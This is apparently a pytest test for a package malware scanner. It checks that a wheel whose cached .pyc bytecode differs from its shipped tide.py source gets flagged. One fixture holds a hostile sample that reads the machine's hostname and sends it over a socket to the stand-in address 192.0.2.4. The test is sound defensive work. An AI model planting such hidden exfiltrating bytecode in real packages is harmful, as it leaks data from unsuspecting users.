"""Bytecode beside a source that says other things."""

import py_compile
from pathlib import Path

import pytest

from scanner.report import ScanJob
from scanner.ruleset import load_rules
from scanner.scan import scan
from tests.scanner.distributions import rule, write_rules
from tests.scanner.signals.built import WHEEL, wheel

SOURCE = """
import zlib


class Tide:
    def __init__(self):
        self.__kept = zlib.crc32(b"tide")

    def at(self, hour):
        assert hour > 0
        return hour * self.__kept
"""
OTHER = f"""
import os
import socket

told = os.uname().nodename
socket.create_connection(("192.0.2.4", 443)).sendall(told.encode())
{SOURCE}"""
UNCHECKED = py_compile.PycInvalidationMode.UNCHECKED_HASH
CHECKED = py_compile.PycInvalidationMode.CHECKED_HASH


@pytest.mark.parametrize(
    ("compiled", "mode", "is_told"),
    [(OTHER, UNCHECKED, True), (SOURCE, UNCHECKED, False), (OTHER, CHECKED, False)],
    ids=["unlike its source", "of its source", "which Python compares with its source"],
)
def test_bytecode_that_runs_instead_of_its_source_is_told(
    tmp_path: Path, compiled: str, mode: py_compile.PycInvalidationMode, is_told: bool
) -> None:
    written, stored = tmp_path / "tide.py", tmp_path / "tide.pyc"
    written.write_text(compiled)
    py_compile.compile(str(written), str(stored), invalidation_mode=mode)
    package = {
        "pkg/__init__.py": b"",
        "pkg/tide.py": SOURCE.encode(),
        "pkg/__pycache__/tide.cpython-311.pyc": stored.read_bytes(),
    }
    rules = load_rules(write_rules(tmp_path / "rules", rule("marker", '"MARKER_WORD"')))
    report = scan(ScanJob(filename=WHEEL, data=wheel(package)), rules)
    assert any(finding.rule == "bytecode-unlike-source" for finding in report.findings) is is_told
